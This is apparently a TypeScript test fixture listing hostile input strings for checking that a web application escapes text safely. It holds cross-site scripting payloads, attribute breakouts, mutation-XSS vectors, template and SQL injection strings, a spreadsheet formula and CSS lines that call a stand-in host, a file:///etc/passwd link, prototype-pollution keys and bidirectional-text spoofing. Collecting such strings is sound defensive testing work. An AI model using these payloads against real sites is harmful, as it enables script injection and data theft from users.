/**
 * Texts that do harm where text becomes HTML, script, style, a link, a template or a key of an object (SECURITY.md E24).
 * Each would set `window.ran`, show a dialog or ask `planted.invalid` for something. None is longer than a tag may be.
 */
export const hostileTexts: readonly string[] = [
  // Elements and handlers.
  '<script>ran=1</script>', '<script src=https://planted.invalid/x.js></script>', '"><script>ran=1</script>', "'><script>ran=1</script>",
  '</title><script>ran=1</script>', '</textarea><script>ran=1</script>', '<img src=x onerror=ran=1>', '<img src="https://planted.invalid/x.png">',
  '<svg onload=ran=1>', '<svg><script>ran=1</script></svg>', '<svg><animate onbegin=ran=1 attributeName=x dur=1s>', '<svg><use href="data:image/svg+xml,<svg onload=ran=1>">',
  '<body onload=ran=1>', '<details open ontoggle=ran=1>', '<input autofocus onfocus=ran=1>', '<video><source onerror=ran=1></video>', '<audio src=x onerror=ran=1>',
  '<iframe src="javascript:parent.ran=1"></iframe>', '<iframe srcdoc="<script>parent.ran=1</script>">', '<object data="javascript:ran=1">', '<embed src="https://planted.invalid/x.swf">',
  '<form action="https://planted.invalid/"><button>x</button></form>', '<meta http-equiv=refresh content="0;url=https://planted.invalid/">', '<base href="https://planted.invalid/">',
  '<link rel=stylesheet href="https://planted.invalid/x.css">', '<a href="javascript:ran=1">x</a>', '<marquee onstart=ran=1>x</marquee>',
  // Out of an attribute.
  '" onmouseover="ran=1', "' autofocus onfocus='ran=1", '` onerror=`ran=1', 'x" style="position:fixed;inset:0" onclick="ran=1',
  // Parsers that disagree about what was written (mutation).
  '<math><mtext><table><mglyph><style><img src=x onerror=ran=1>', '<noscript><p title="</noscript><img src=x onerror=ran=1>">', '<svg></p><style><g title="</style><img src=x onerror=ran=1>">',
  '<!--<img src="--><img src=x onerror=ran=1>">', '<![CDATA[<script>ran=1</script>]]>', '<scr<script>ipt>ran=1</scr</script>ipt>', '\u00ADjava\u00ADscript:ran=1', '&lt;script&gt;ran=1&lt;/script&gt;', '%3Cscript%3Eran=1%3C/script%3E',
  // Links.
  'javascript:ran=1', 'JaVaScRiPt:alert(1)', 'javascript://planted.invalid/%0aran=1', 'java\tscript:ran=1', 'data:text/html,<script>ran=1</script>', 'vbscript:msgbox(1)', 'file:///etc/passwd', '\\\\planted.invalid\\share', '//planted.invalid/x', 'https://planted.invalid@evil.invalid/',
  // Templates, formats and styles.
  '{{constructor.constructor("ran=1")()}}', '${ran=1}', '#{ran=1}', '<%= ran=1 %>', '{{name}} $t(ui:cancel) {{- name}}', '[x](javascript:ran=1)', '![x](https://planted.invalid/x.png)',
  '</style><style>*{background:url(https://planted.invalid/x)}', 'red;background:url(https://planted.invalid/x)', "expression(ran=1);@import 'https://planted.invalid/x';",
  // Names of things that objects already have, and text that turns around.
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '\u202Egnp.exe\u202C', '\u2066\u202Eadmin\u202C\u2069', 'a\u200Bb\uFEFFc', 'Z\u0335\u0321\u0322a\u0336l\u0337g\u0338o', '"; DROP TABLE contacts; --', "=HYPERLINK(\"https://planted.invalid/\")", '\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67'
]
